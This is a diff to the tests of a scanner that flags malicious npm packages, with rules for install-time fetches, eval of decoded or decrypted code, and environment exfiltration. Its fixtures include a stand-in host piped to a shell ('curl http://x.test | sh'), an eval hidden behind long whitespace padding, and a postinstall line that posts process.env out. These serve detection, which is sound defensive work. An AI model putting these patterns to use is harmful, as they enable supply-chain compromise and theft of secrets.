@@ -78,7 +78,7 @@ def test_shell_scripts_and_build_files() -> None:
              "go.sh": "\ncurl http://x.test/jsextension -o jsextension\n"}  # fmt: skip
     assert ("npm.install-fetches", 2, Threat.CRITICAL) in told(found_in(npm_scripts, files, Kind.NPM))
     gyp = {"package.json": manifest(), "binding.gyp": "{'a': '<!(curl http://x.test | sh)'}"}
-    assert told(found_in(npm_scripts, gyp, Kind.NPM)) == {("npm.gyp-command", 1, Threat.HIGH)}
+    assert told(found_in(npm_scripts, gyp, Kind.NPM)) == {("npm.gyp-command", 1, Threat.CRITICAL)}
     gyp["binding.gyp"] = "{'a': '<!(node -p \"1\")'}"
     assert found_in(npm_scripts, gyp, Kind.NPM) == []
 
@@ -120,3 +120,51 @@ def test_what_decrypts_far_from_what_runs_is_mostly_another_module(between: int,
     assert told(found_in(npm_scripts, {"package.json": manifest(), "a.js": text}, Kind.NPM)) == {
         ("npm.exec-decrypted", 1, threat)
     }
+
+
+@pytest.mark.parametrize("decoys", [1, 50, 300])
+def test_what_decrypts_first_does_not_hide_what_decrypts_and_runs(decoys: int) -> None:
+    text = (
+        "createDecipher('aes192', k);\n" * decoys
+        + f"/*{' ' * 50_000}*/\ncreateDecipheriv('aes256', k, v); eval(x)"
+    )
+    ((rule, line, threat),) = told(
+        found_in(npm_scripts, {"package.json": manifest(), "a.js": text}, Kind.NPM)
+    )
+    # Of more than 200 none is asked for what is near it.
+    assert (rule, line, threat) == ("npm.exec-decrypted", decoys + 2 if decoys < 200 else 1, Threat.CRITICAL)
+
+
+def test_what_is_searched_first_is_what_is_small() -> None:
+    """Large files in front, of no use, hide nothing behind them."""
+    padding = {f"a{n}.js": "x;\n" * 900_000 for n in range(7)}
+    files = {"package.json": manifest(), **padding, "z.js": "eval(atob('Y29uc29sZQ=='))"}
+    assert told(found_in(npm_scripts, files, Kind.NPM)) == {("npm.exec-decoded", 1, Threat.HIGH)}
+
+
+def test_what_only_an_installation_does_says_so() -> None:
+    files = {
+        "package.json": manifest(scripts={"postinstall": "node go.js"}),
+        "go.js": "eval(atob('Y29uc29sZQ=='))",
+    }
+    found = {(each.rule, each.threat, each.installs) for each in found_in(npm_scripts, files, Kind.NPM)}
+    assert found == {
+        ("npm.install-script", Threat.MEDIUM, True),
+        ("npm.exec-decoded", Threat.CRITICAL, True),
+        ("npm.exec-decoded", Threat.HIGH, False),
+    }
+
+
+@pytest.mark.parametrize(
+    ("more", "threat"),
+    [("", Threat.HIGH), ("https.request({}).end(JSON.stringify(process.env))", Threat.CRITICAL)],
+)
+def test_an_environment_that_is_handed_on_to_a_program_is_not_sent(more: str, threat: Threat) -> None:
+    """As installers of binaries do it; what only looks so is found beside it."""
+    code = (
+        "const https = require('https');\nhttps.get(URL);\n"
+        f"const env = {{ ...process.env, a: 1 }};\nrequire('child_process').execSync('x', {{ env }});\n{more}\n"
+    )
+    files = {"package.json": manifest(scripts={"postinstall": "node go.js"}), "go.js": code}
+    found = found_in(npm_scripts, files, Kind.NPM)
+    assert {each.threat for each in found if each.rule == "npm.environment-sent"} == {threat}
